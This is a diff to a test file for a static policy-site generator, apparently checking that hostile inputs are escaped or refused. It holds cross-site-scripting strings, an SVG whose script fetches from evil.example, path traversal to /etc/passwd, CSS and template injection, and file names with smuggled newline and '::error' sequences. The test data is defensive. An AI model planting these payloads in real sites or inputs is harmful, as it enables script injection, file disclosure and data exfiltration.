@@ -11,11 +11,13 @@ import { ADDRESSES, BREAKOUTS, ELEMENTS } from './payloads.mjs';
 const ALL = [...BREAKOUTS, ...ELEMENTS, ...ADDRESSES];
 const BASE = 'https://policies.example.com/';
 const LAST = 'The last words.';
-const DOT = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="parent.__pwned=1"><script>parent.__pwned=1;'
+/** A picture that runs something is not published: see below. */
+const HOSTILE_DOT = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="parent.__pwned=1"><script>parent.__pwned=1;'
   + 'fetch("https://evil.example/svg")</script><image href="https://evil.example/in.svg" width="9" height="9"/></svg>';
+const DOT = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><circle r="4"/></svg>';
 
 const quoted = (text) => JSON.stringify(text);
-/** Without control characters, which a feed cannot hold. */
+/** Without control characters, which a feed leaves out. */
 const plain = (text) => text.replace(/[\u0001-\u0008\u000b\u000c]/g, '');
 const range = (length) => Array.from({ length }, (_, at) => at);
 /** A part of all payloads as one text: of all parts together each payload stands somewhere. */
@@ -182,7 +184,7 @@ test('hostile values of variables and hostile strings of the theme, in texts, ve
 
 /** Names of folders, as far as a file system takes them. */
 const NAMES = ['"><img src=x onerror=window.__pwned=1>', `' onmouseover='window.__pwned=1`, 'javascript:window.__pwned=1', '&lt;img src=x&gt;',
-  '"><svg onload=window.__pwned=1>/<b>in', '{{ 7*7 }}', '%22%3E%3Cscript%3E', '..%2f..%2fevil', 'con"quote', '-->', 'a\tb', '`x`'];
+  '"><svg onload=window.__pwned=1>/<b>in', '{{ 7*7 }}', '%22%3E%3Cscript%3E', '..%2f..%2fevil', 'con"quote', '-->', '`x`'];
 
 test('hostile settings, titles, descriptions, notes and names, on every page', async () => {
   const parts = 4;
@@ -272,6 +274,7 @@ test('settings and front matter that cannot be words are refused, and nothing is
   const refused = [
     { 'engross.toml': `[site]\nbase_url = ${quoted(`https://x/${evil}`)}\n` }, { 'engross.toml': '[site]\nbase_url = "javascript:window.__pwned=1"\n' },
     site(`source = ${quoted(`https://x/${evil}`)}`), site('source = "javascript:window.__pwned=1"'), site(`theme = ${quoted(`../${evil}`)}`),
+    { ...site('[theme]\nlogo = "content/dot.svg"'), 'content/dot.svg': HOSTILE_DOT }, { ...site(''), 'content/a\tb/en.md': '# P\n' }, { ...site(''), 'content/n\n::error/en.md': '# P\n' },
     site('[theme]\nlogo = "../../etc/passwd"'), site('[theme]\nlogo = "https://evil.example/logo.svg"'), site(`[theme]\naccent = ${quoted(`#000;}*{background:url(//evil.example)}`)}`),
     site(`[legal]\nprevailing = ${quoted(evil)}`), site(`[locales]\nsource = ${quoted(evil)}`), site(`[locales]\npublish = [${quoted(evil)}]`),
     { ...site(''), 'content/p/en.md': `---\neffective: ${quoted(evil)}\n---\n# P\n` }, { ...site(''), 'content/p/en.md': `---\npublished: ${quoted(evil)}\n---\n# P\n` },
